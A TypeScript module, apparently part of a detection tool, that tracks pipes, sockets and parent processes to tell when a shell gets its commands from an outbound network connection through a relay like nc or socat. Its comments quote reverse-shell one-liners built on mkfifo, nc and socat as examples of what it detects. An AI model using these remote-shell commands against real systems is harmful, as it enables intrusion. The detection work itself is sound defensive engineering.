/**
 * Who speaks for a shell that has no socket of its own.
 *
 * `mkfifo f; sh < f | nc host port > f` and `socat TCP:host:port EXEC:sh,pty` give the shell pipes or a terminal; the
 * connection is held by another process that passes bytes between the two. Seen from the kernel:
 *
 * - pipeline: the shell's output is a connection, or the pipe that a connected process has as its input; and its input
 *   is a connection, comes from a connected process, or from the pipe that this process writes into;
 * - holder: the shell's input and output are both pipes, both unix sockets or both a terminal, and the nearest ancestor
 *   whose own are others holds an open connection that it, or an ancestor of its, opened outward.
 *
 * Only shells that read their commands from such an input count: `sh -c ...` and scripts get no orders from there.
 * The order of events doesn't matter: it is looked at when the shell starts, and when a relay connects or starts.
 */

import type { ProcessBase, Stdio } from './event.ts'
import type { Descriptor, Socket } from './parts.ts'

export interface Connection {
  ip: string
  port: number
  /** UDP: such a socket is as often a resolver's as a conversation. */
  datagram?: true
}

/** What the wiring knows of a process. */
export interface Wired {
  described: ProcessBase
  /** Outgoing connections, those inherited from the parent included; newest last. */
  connections: Connection[]
  stdio: (Descriptor | undefined)[]
  /** What its parent held when it executed its program. */
  parentSockets: Socket[]
  parent: Wired | undefined
  exited: boolean
}

export interface Wiring<P extends Wired> {
  /**
   * A process has begun a program: describes its relay, if it has one, in its stdin and stdout. Gives the other shells
   * that are wired by its start.
   */
  execed(process: P): P[]
  /** A process has opened a connection: the shells that are wired to the network by it; each is described. */
  connected(process: P): P[]
  /** The process has ended, or begins another program. */
  forget(process: P): void
  /** Its descriptors are others now; forget() came before. Gives the shells that are wired by that. */
  rewired(process: P): P[]
}

/** Both ends of a conversation by one of these kinds can be held by a relay. */
const conduits = new Set(['pipe', 'unix', 'tty'])
const furthestHolder = 8

/** Where a descriptor of a shell leads: to a connection, of its own or through a relay. */
interface Way {
  connection: Connection
  relay?: Wired
}

export function createWiring<P extends Wired>(): Wiring<P> {
  /** Shells that read their commands from their input: by the pipes they read and write, and by who holds these ends. */
  const shellsByInput = new Map<string, P>()
  const shellsByOutput = new Map<string, P>()
  const shellsByHolder = new Map<Wired, Set<P>>()
  const holders = new Map<P, Wired>()
  /** Programs that have a connection: by the pipe they read from, and by the one they write to. */
  const relaysByInput = new Map<string, P>()
  const relaysByOutput = new Map<string, P>()

  const through = (relay: Wired | undefined): Way | undefined => {
    const connection = relay && !relay.exited ? connectionOf(relay) : undefined
    return relay && connection && { connection, relay }
  }

  /** Both ways, if the shell is part of a pipeline with a connection. */
  const inPipeline = (shell: P): [Way, Way] | undefined => {
    const reader = relaysByInput.get(pipeAt(shell, 1) ?? '')
    const out = direct(shell.described.stdout) ?? through(reader)
    const into =
      direct(shell.described.stdin) ??
      through(relaysByOutput.get(pipeAt(shell, 0) ?? '')) ??
      // What it reads may be written by a third process, to which this one writes: `cat f | sh | nc > f`.
      (reader && pipeAt(shell, 0) !== undefined && pipeAt(reader, 1) !== undefined ? through(reader) : undefined)
    return into && out && [into, out]
  }

  const wire = (shell: P, ways: [Way, Way] | undefined): boolean => {
    if (!ways || shell.exited || isWired(shell) || ways.every(({ relay }) => !relay)) return false
    const [stdin, stdout] = ways.map((way, at) =>
      leading(at === 0 ? shell.described.stdin : shell.described.stdout, way),
    )
    shell.described = { ...shell.described, stdin, stdout }
    return true
  }

  /** The shells at the other ends of the pipes of a relay that this wires up. */
  const neighbours = (process: P): P[] =>
    [shellsByOutput.get(pipeAt(process, 0) ?? ''), shellsByInput.get(pipeAt(process, 1) ?? '')]
      .filter((shell) => shell !== undefined)
      .filter((shell) => wire(shell, inPipeline(shell)))

  const relay = (process: P) => {
    const [input, output] = [pipeAt(process, 0), pipeAt(process, 1)]
    if (input !== undefined) relaysByInput.set(input, process)
    if (output !== undefined) relaysByOutput.set(output, process)
  }

  return {
    execed(process) {
      const wired = this.rewired(process)
      const { stdin, stdout, reads_commands_from } = process.described
      if (reads_commands_from !== 'stdin') return wired
      const [input, output] = [pipeAt(process, 0), pipeAt(process, 1)]
      if (input !== undefined) shellsByInput.set(input, process)
      if (output !== undefined) shellsByOutput.set(output, process)
      if (wire(process, inPipeline(process))) return wired
      if (!conduits.has(stdin?.type ?? '') || stdout?.type !== stdin?.type) return wired
      const { holder, sockets } = holderOf(process)
      if (!holder) return wired
      holders.set(process, holder)
      shellsByHolder.set(holder, (shellsByHolder.get(holder) ?? new Set()).add(process))
      const connection = openConnection(holder, sockets)
      if (connection) wire(process, both({ connection, relay: holder }))
      return wired
    },

    connected(process) {
      relay(process)
      const way = through(process)
      const held = way ? [...(shellsByHolder.get(process) ?? [])].filter((shell) => wire(shell, both(way))) : []
      return [...held, ...neighbours(process)]
    },

    rewired(process) {
      if (!networkPeer(process)) return []
      relay(process)
      return neighbours(process)
    },

    forget(process) {
      const remove = (map: Map<string, P>, key: string | undefined) => {
        if (key !== undefined && map.get(key) === process) map.delete(key)
      }
      remove(shellsByInput, process.stdio[0]?.inode)
      remove(shellsByOutput, process.stdio[1]?.inode)
      remove(relaysByInput, process.stdio[0]?.inode)
      remove(relaysByOutput, process.stdio[1]?.inode)
      if (process.exited) shellsByHolder.delete(process)
      const holder = holders.get(process)
      if (!holder) return
      holders.delete(process)
      const shells = shellsByHolder.get(holder)
      shells?.delete(process)
      if (shells?.size === 0) shellsByHolder.delete(holder)
    },
  }
}

const both = (way: Way): [Way, Way] => [way, way]

const isWired = ({ described: { stdin, stdout } }: Wired) => Boolean(stdin?.relay || stdout?.relay)

/** What a shell's descriptor is, said with where it leads. */
function leading(stdio: Stdio | undefined, { connection: { ip, port }, relay }: Way): Stdio | undefined {
  if (!relay) return stdio
  const { pid, name, command_line } = relay.described
  return {
    ...stdio,
    peer: { ip, port },
    direction: 'outbound',
    relay: { ...(pid !== undefined && { pid }), ...(name && { name }), ...(command_line && { command_line }) },
  }
}

/**
 * Who holds the other ends of a shell's input and output: the nearest ancestor that has others itself (`sh -c` and
 * `timeout` in between have the same, and so has the program whose user escapes to a shell on his own terminal). With
 * the sockets that were seen on the way.
 */
function holderOf(shell: Wired): { holder: Wired | undefined; sockets: Socket[] } {
  const sockets = [...shell.parentSockets]
  let holder = shell.parent
  for (let steps = 0; holder && sameEnds(holder, shell) && steps < furthestHolder; steps++) {
    sockets.push(...holder.parentSockets)
    holder = holder.parent
  }
  return { holder: holder && sameEnds(holder, shell) ? undefined : holder, sockets }
}

const sameEnds = (one: Wired, other: Wired) =>
  [0, 1].every((at) => one.stdio[at] !== undefined && one.stdio[at]?.inode === other.stdio[at]?.inode)

const S_IFMT = 0o170000
const S_IFIFO = 0o010000

/** The pipe that is this descriptor, if it is one. */
const pipeAt = (process: Wired, at: 0 | 1): string | undefined => {
  const descriptor = process.stdio[at]
  return descriptor && (descriptor.mode & S_IFMT) === S_IFIFO ? descriptor.inode : undefined
}

/** The other end of the connection that is its input or its output: `cat <&3 | sh | cat >&3`. */
const networkPeer = ({ described: { stdin, stdout } }: Wired): Connection | undefined =>
  fullPeer(stdin) ?? fullPeer(stdout)

function direct(stdio: Stdio | undefined): Way | undefined {
  const connection = fullPeer(stdio)
  return connection && { connection }
}

function fullPeer(stdio: Stdio | undefined): Connection | undefined {
  const { ip, port } = (stdio?.type === 'socket' && stdio.peer) || {}
  return ip === undefined || port === undefined ? undefined : { ip, port }
}

/** What a relay passes on. That it has sent a datagram says nothing: it may have looked up a name. */
const connectionOf = (relay: Wired): Connection | undefined =>
  networkPeer(relay) ?? relay.connections.findLast(({ datagram }) => !datagram)

const DNS_PORT = 53

/**
 * A connection that the parent opened and, by its descriptors, still holds. One of TCP before any conversation by UDP: of each
 * kind the newest is known, but not which of the two kinds came last (bpf/macros/filter-peer.bt).
 */
function openConnection(parent: Wired, sockets: Socket[]): Connection | undefined {
  const isHeld = ({ ip, port, datagram }: Connection) =>
    sockets.some(
      (socket) => !socket.listening && socket.stream === !datagram && socket.ip === ip && socket.port === port,
    )
  return (
    parent.connections.findLast((one) => !one.datagram && isHeld(one)) ??
    // Port 53 is a resolver's, kept open.
    parent.connections.findLast((one) => one.datagram && one.port !== DNS_PORT && isHeld(one))
  )
}
